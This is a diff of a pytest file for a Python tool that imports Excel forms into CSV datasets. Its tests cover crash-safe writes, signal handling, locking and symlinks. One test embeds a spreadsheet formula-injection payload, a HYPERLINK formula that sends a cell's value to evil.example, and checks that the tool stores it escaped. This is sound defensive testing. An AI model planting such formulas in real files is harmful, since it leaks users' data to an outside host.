@@ -2,20 +2,27 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import fcntl
 import hashlib
+import os
 import shutil
+import signal
 import stat
+import threading
+import time
 from pathlib import Path
 
 import openpyxl
 import pytest
 
 from dxnb import catalogue as cat
-from dxnb import intake
+from dxnb import fileio, intake
 from dxnb.cli import main
 from dxnb.dataset import check_dataset, load_dataset
 from dxnb.errors import DxnbError, FormError
+from dxnb.fileio import LOCK_NAME
 from dxnb.formreader import read_form, read_value
 from dxnb.forms import (
     CODE_CELL,
@@ -41,7 +48,7 @@ def snapshot(folder: Path) -> dict[str, str]:
     return {
         str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
         for p in sorted(folder.rglob("*"))
-        if p.is_file()
+        if p.is_file() and p.name != LOCK_NAME  # the lock file stays, empty: removing it would race
     }
 
 
@@ -565,37 +572,248 @@ def test_merged_dataset_must_validate(data_copy, filled, monkeypatch):
     assert snapshot(data_copy) == before
 
 
-@pytest.mark.parametrize("failure", [KeyboardInterrupt, RuntimeError, OSError])
-def test_interrupted_write_leaves_dataset(data_copy, filled, monkeypatch, failure):
-    real = intake.atomic_write_bytes
-    written = []
+def _fail_at(monkeypatch, stage: str, failure: type[BaseException]):
+    """Make the import's writing fail at ``stage``: a temporary, a backup, or the rename of notes.csv."""
+    real_temporary, real_backup, real_replace = fileio.write_temporary, fileio.unique_backup, os.replace
+    hit = []
 
-    def flaky(path, data):
-        if Path(path).name == "notes.csv" and not written:  # after observations.csv was replaced
-            written.append(path)
+    def temporary(target, data, mode=None):
+        if stage == "temporary" and Path(target).name == "notes.csv":
+            hit.append(target)
             raise failure("disk pulled out")
-        return real(path, data)
+        return real_temporary(target, data, mode)
 
-    monkeypatch.setattr(intake, "atomic_write_bytes", flaky)
-    before = snapshot(data_copy)
+    def backup(folder, name, data, mode=None):
+        if stage == "backup" and name == "notes.csv":
+            hit.append(name)
+            raise failure("disk pulled out")
+        return real_backup(folder, name, data, mode)
+
+    def replace(src, dst):
+        if stage == "replace" and Path(dst).name == "notes.csv" and not hit:
+            hit.append(dst)  # observations.csv was already replaced
+            raise failure("disk pulled out")
+        return real_replace(src, dst)
+
+    monkeypatch.setattr(fileio, "write_temporary", temporary)
+    monkeypatch.setattr(fileio, "unique_backup", backup)
+    monkeypatch.setattr(fileio.os, "replace", replace)
+    return hit
+
+
+def leftovers(folder: Path) -> list[str]:
+    """Temporaries and journals an import may leave behind."""
+    return sorted(p.name for p in folder.rglob(".*") if p.name != LOCK_NAME)
+
+
+@pytest.mark.parametrize("stage", ["temporary", "backup", "replace"])
+@pytest.mark.parametrize("failure", [KeyboardInterrupt, RuntimeError, OSError])
+def test_interrupted_write_leaves_dataset(data_copy, filled, monkeypatch, failure, stage):
+    before = {name: digest(data_copy / name) for name in ("observations.csv", "notes.csv")}
+    hit = _fail_at(monkeypatch, stage, failure)
     expected = FormError if failure is OSError else failure
     with pytest.raises(expected):
         import_forms([filled], data_copy)
-    assert written
-    assert snapshot(data_copy) == before  # observations.csv restored, no backups left behind
-    assert not (data_copy / "backups").exists()
+    monkeypatch.undo()
+    assert hit
+    assert {name: digest(data_copy / name) for name in before} == before  # both files as they were
+    assert leftovers(data_copy) == []  # no temporary, no journal
+    backups = sorted((data_copy / "backups").glob("*")) if (data_copy / "backups").exists() else []
+    for backup in backups:  # whatever backup was made is kept, and holds the previous file
+        assert digest(backup) == before[backup.name.split(".")[0] + ".csv"]
+    if stage == "replace":
+        assert len(backups) == 2
 
 
 def test_interrupted_write_cli(data_copy, filled, monkeypatch, capsys):
-    def broken(path, data):
+    def broken(target, data, mode=None):
         raise OSError(28, "No space left on device")
 
-    monkeypatch.setattr(intake, "atomic_write_bytes", broken)
+    monkeypatch.setattr(fileio, "write_temporary", broken)
     before = snapshot(data_copy)
     assert main(["import", str(filled), "--data", str(data_copy)]) == 2
     err = capsys.readouterr().err
     assert "No space left on device" in err and "left as it was" in err and "Traceback" not in err
     assert snapshot(data_copy) == before
+
+
+def test_ctrl_c_while_files_are_moved_into_place(data_copy, filled, monkeypatch):
+    """Ctrl-C between the two renames is held back: both files are replaced, the backups stay."""
+    old = {name: (data_copy / name).read_bytes() for name in ("observations.csv", "notes.csv")}
+    real_replace = os.replace
+
+    def replace(src, dst):
+        if Path(dst).name == "observations.csv":
+            os.kill(os.getpid(), signal.SIGINT)  # the user presses Ctrl-C right now
+        return real_replace(src, dst)
+
+    monkeypatch.setattr(fileio.os, "replace", replace)
+    with pytest.raises(KeyboardInterrupt):
+        import_forms([filled], data_copy)
+    monkeypatch.undo()
+    assert [n for n, data in old.items() if (data_copy / n).read_bytes() == data] == []  # both replaced
+    assert values_of(data_copy, VINH_HOA, "2025") == EXPECTED
+    backups = sorted((data_copy / "backups").iterdir())
+    assert sorted(b.read_bytes() for b in backups) == sorted(old.values())
+    assert leftovers(data_copy) == []
+
+
+def test_sigterm_while_writing_leaves_no_temporary(data_copy, filled, monkeypatch, capsys):
+    before = {name: digest(data_copy / name) for name in ("observations.csv", "notes.csv")}
+    real_backup = fileio.unique_backup
+
+    def backup(folder, name, data, mode=None):
+        os.kill(os.getpid(), signal.SIGTERM)  # `kill <pid>` while the temporaries exist
+        return real_backup(folder, name, data, mode)
+
+    monkeypatch.setattr(fileio, "unique_backup", backup)
+    assert main(["import", str(filled), "--data", str(data_copy)]) == 130
+    assert "interrupted" in capsys.readouterr().err
+    assert {name: digest(data_copy / name) for name in before} == before
+    assert leftovers(data_copy) == []
+    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL  # the handler is put back
+
+
+def _crash_between_renames(data_copy: Path, form: Path) -> None:
+    """Run an import in a child process killed (no clean-up at all) after observations.csv was replaced."""
+    pid = os.fork()
+    if pid == 0:  # pragma: no cover - the child
+        try:
+            real_replace = os.replace
+
+            def replace(src, dst):
+                if Path(dst).name == "notes.csv":
+                    os._exit(9)
+                return real_replace(src, dst)
+
+            fileio.os.replace = replace
+            import_forms([form], data_copy)
+        finally:
+            os._exit(1)
+    _, status = os.waitpid(pid, 0)
+    assert os.WEXITSTATUS(status) == 9
+
+
+@pytest.mark.parametrize("temporary_survives", [True, False])
+def test_leftover_journal_is_resolved(data_copy, filled, tmp_path, temporary_survives):
+    old = {name: (data_copy / name).read_bytes() for name in ("observations.csv", "notes.csv")}
+    _crash_between_renames(data_copy, filled)
+    journal = data_copy / fileio.JOURNAL_NAME
+    assert journal.exists()
+    assert (data_copy / "observations.csv").read_bytes() != old["observations.csv"]
+    assert (data_copy / "notes.csv").read_bytes() == old["notes.csv"]  # half done
+    if not temporary_survives:
+        for tmp in data_copy.glob(".notes.csv.*.tmp"):
+            tmp.unlink()
+    empty = make_form(data_copy, tmp_path / "empty.xlsx")
+    import_forms([empty], data_copy)  # the next import resolves the journal first
+    assert not journal.exists() and leftovers(data_copy) == []
+    if temporary_survives:  # rolled forward: both files are new
+        assert (data_copy / "notes.csv").read_bytes() != old["notes.csv"]
+        assert values_of(data_copy, VINH_HOA, "2025") == EXPECTED
+    else:  # rolled back: both files are as before the crashed import
+        assert {name: (data_copy / name).read_bytes() for name in old} == old
+    assert len(list((data_copy / "backups").iterdir())) == 2  # the crashed import's backups are kept
+    assert check_dataset(data_copy)[0] is not None
+
+
+def test_leftover_temporaries_are_swept(data_copy, filled):
+    stale = data_copy / ".observations.csv.k1ll3d.tmp"
+    stale.write_text("half a file", encoding="utf-8")
+    (data_copy / ".notes.csv.x.tmp").write_text("", encoding="utf-8")
+    import_forms([filled], data_copy)
+    assert leftovers(data_copy) == []
+
+
+def test_concurrent_imports_run_one_after_the_other(data_copy, tmp_path, monkeypatch):
+    """Two imports of different units at once: both units' values land, each names its own backups."""
+    other = "25873"
+    forms = [fill(make_form(data_copy, tmp_path / f"{code}.xlsx", code), {"plans_issued": n})
+             for code, n in ((VINH_HOA, 14), (other, 9))]
+    real_load = intake.load_dataset
+    reading = threading.Event()
+
+    def slow_load(*args, **kwargs):
+        dataset = real_load(*args, **kwargs)
+        if reading.is_set():
+            return dataset
+        reading.set()
+        time.sleep(1.0)  # without the lock the other import reads the same dataset meanwhile
+        return dataset
+
+    monkeypatch.setattr(intake, "load_dataset", slow_load)
+    results: dict[int, object] = {}
+
+    def run(index: int) -> None:
+        try:
+            results[index] = import_forms([forms[index]], data_copy)
+        except BaseException as exc:  # reported by the assertion below
+            results[index] = exc
+
+    threads = [threading.Thread(target=run, args=(i,)) for i in range(2)]
+    threads[0].start()
+    reading.wait(5)
+    threads[1].start()
+    for thread in threads:
+        thread.join(60)
+    assert all(isinstance(r, intake.ImportPlan) and r.written for r in results.values()), results
+    assert values_of(data_copy, VINH_HOA, "2025") == {"plans_issued": 14}
+    assert values_of(data_copy, other, "2025") == {"plans_issued": 9}
+    backups = [b for r in results.values() for b in r.backups]
+    assert len(set(backups)) == len(backups) == 2
+
+
+def test_busy_dataset_refused_after_a_bounded_wait(data_copy, filled, monkeypatch, capsys):
+    monkeypatch.setattr(fileio, "LOCK_TIMEOUT", 0.3)
+    before = snapshot(data_copy)
+    with open(data_copy / LOCK_NAME, "a") as handle:  # another import holds the lock
+        fcntl.flock(handle, fcntl.LOCK_EX)
+        assert main(["import", str(filled), "--data", str(data_copy)]) == 2
+    err = capsys.readouterr().err
+    assert "another dxnb program is changing this dataset" in err and LOCK_NAME in err
+    assert snapshot(data_copy) == before
+
+
+def test_import_writes_through_a_symlink(data_copy, filled, tmp_path):
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    (data_copy / "observations.csv").rename(shared / "observations.csv")
+    (data_copy / "observations.csv").symlink_to(shared / "observations.csv")
+    import_forms([filled], data_copy)
+    assert (data_copy / "observations.csv").is_symlink()
+    assert values_of(data_copy, VINH_HOA, "2025") == EXPECTED
+    assert "25882,2025,plans_issued,14" in (shared / "observations.csv").read_text(encoding="utf-8")
+    assert [p.name for p in shared.iterdir()] == ["observations.csv"]  # no temporary left next to the target
+
+
+def test_import_keeps_cr_only_line_endings(data_copy, filled):
+    for name in ("observations.csv", "notes.csv"):
+        path = data_copy / name
+        path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r"))
+    import_forms([filled], data_copy)
+    data = (data_copy / "observations.csv").read_bytes()
+    assert b"\n" not in data and data.count(b"\r") > 100
+    assert values_of(data_copy, VINH_HOA, "2025") == EXPECTED
+
+
+def test_formula_typed_as_source_is_stored_inert(data_copy, tmp_path):
+    link = '=HYPERLINK("http://evil.example/?q="&A1,"Quyết định")'
+
+    def typed_as_text(wb):
+        cell = wb[VALUES_SHEET].cell(row_of(wb[VALUES_SHEET], "plans_issued"), 8)
+        cell.value = link
+        cell.data_type = "s"  # typed after an apostrophe in Excel: the text, not a formula
+
+    form = fill(make_form(data_copy, tmp_path / "f.xlsx"), {"plans_issued": 3}, notes=[("khó khăn", "-- thiếu máy")],
+                edit=typed_as_text)
+    import_forms([form], data_copy)
+    rows = list(csv.DictReader((data_copy / "observations.csv").open(encoding="utf-8-sig", newline="")))
+    mine = [r for r in rows if (r["unit_code"], r["period"], r["indicator"]) == (VINH_HOA, "2025", "plans_issued")]
+    assert mine[0]["source"] == "'" + link and mine[0]["value"] == "3"
+    notes = (data_copy / "notes.csv").read_text(encoding="utf-8")
+    assert "'-- thiếu máy" in notes
+    again = import_forms([form], data_copy)  # the stored, escaped text is recognised as the same
+    assert not again.written and again.counts("observations.csv")["unchanged"] == 1
 
 
 def test_dataset_changed_meanwhile(data_copy, filled):
